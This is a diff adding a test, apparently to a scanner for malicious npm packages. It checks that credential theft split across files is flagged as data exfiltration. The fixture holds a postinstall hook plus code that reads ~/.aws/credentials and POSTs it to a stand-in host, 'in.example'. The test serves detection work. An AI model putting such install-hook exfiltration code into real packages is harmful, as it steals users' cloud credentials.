@@ -189,6 +189,20 @@ module.exports.run = (c) => execSync(c, { stdio: 'ignore' });`,
     expect(threatsOf(r, 0.8)).toContain('install_script_injection');
     expect(r.risk_level).toBe('critical');
   });
+  it('data collected in one file and sent from another keeps its taint', () => {
+    const r = analyzeSource({
+      'package.json': JSON.stringify({
+        name: 'x',
+        version: '1.0.0',
+        scripts: { postinstall: 'node send.js' },
+      }),
+      'collect.js': `const fs = require('fs');
+module.exports = { blob: fs.readFileSync(require('os').homedir() + '/.aws/credentials', 'utf8') };`,
+      'send.js': `const { blob } = require('./collect');
+require('https').request({ hostname: 'in.example', method: 'POST' }).end(blob);`,
+    });
+    expect(threatsOf(r, 0.8)).toContain('data_exfiltration');
+  });
   it('require cycles do not loop', () => {
     const r = analyzeSource({
       'a.js': `const b = require('./b'); module.exports = { x: 'a' }; b.y;`,
